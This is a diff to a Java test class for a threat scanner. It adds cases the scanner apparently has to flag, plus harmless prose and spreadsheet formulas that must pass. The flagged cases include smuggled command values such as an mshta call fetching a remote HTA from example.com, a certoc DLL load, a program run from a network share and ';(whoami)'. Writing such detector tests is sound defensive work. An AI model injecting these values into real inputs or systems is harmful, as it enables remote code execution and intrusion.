@@ -890,7 +890,14 @@ class ThreatScannerTest {
         "the previous directory      ^ cd ~-",
         "the working directory alone ^ ~-",
         "a program past its aliases  ^ \\ls",
-        "a look-up of a program      ^ which gcc"
+        "a look-up of a program      ^ which gcc",
+        "a LOLBAS binary             ^ ;mshta http://example.com/x.hta",
+        "a LOLBAS binary fetching    ^ &certoc -LoadDLL x.dll",
+        "a program on a share        ^ ;\\\\host\\share\\x.exe",
+        "a group alone               ^ ;(whoami)",
+        "after a cut-off assignment  ^ =ls -la",
+        "a JSON tool piped on        ^ x|jq .",
+        "watch and a program         ^ watch ls"
       })
   @DisplayName(
       "administration tools with plain arguments, information tools alone, a wrapper's program,"
@@ -917,7 +924,11 @@ class ThreatScannerTest {
         "a noise with a hyphen       ^ salt-and-pepper noise on the chart",
         "a Windows path              ^ C:\\temp\\ls",
         "a question about a version  ^ which python version do we run",
-        "a module in a question      ^ I wonder which perl module"
+        "a module in a question      ^ I wonder which perl module",
+        "a document on a share       ^ see \\\\fs\\desk\\q4.xlsx; then call",
+        "a word in parentheses       ^ go; (python) later",
+        "a spreadsheet formula       ^ =SUM(A1:A3)",
+        "watch and a symbol          ^ watch btc"
       })
   @DisplayName("prose near the whole-value command classes passes")
   void wholeValueCommandsProse(String what, String value) {
